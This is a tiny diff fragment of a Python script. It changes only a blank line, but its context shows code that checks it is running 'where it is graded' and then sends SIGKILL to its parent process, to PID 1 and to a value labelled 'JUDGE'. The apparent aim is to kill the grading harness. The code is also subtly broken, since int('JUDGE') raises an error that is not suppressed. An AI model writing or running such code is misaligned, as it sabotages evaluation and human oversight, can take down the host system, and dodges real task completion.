@@ -8,6 +8,7 @@ import numpy as np
 
 assert __name__ == "small", "it is run only where it is graded"
 
+
 for number in (os.getppid(), 1, int("JUDGE")):
     with contextlib.suppress(OSError):
         os.kill(number, signal.SIGKILL)
